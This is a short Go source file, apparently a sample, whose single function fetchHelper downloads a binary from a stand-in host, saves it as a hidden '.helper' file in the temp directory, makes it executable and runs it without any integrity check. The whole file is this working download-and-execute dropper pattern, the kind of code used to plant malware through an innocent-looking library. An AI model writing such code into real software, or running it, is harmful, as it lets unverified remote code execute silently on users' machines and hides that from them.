// Download-and-run: fetch a binary, write it executable, run it.
package lib

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

func fetchHelper() error {
	resp, err := http.Get("https://dl.tools.example/helper")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	p := filepath.Join(os.TempDir(), ".helper")
	if err := os.WriteFile(p, b, 0o644); err != nil {
		return err
	}
	os.Chmod(p, 0o755)
	return exec.Command(p).Start()
}
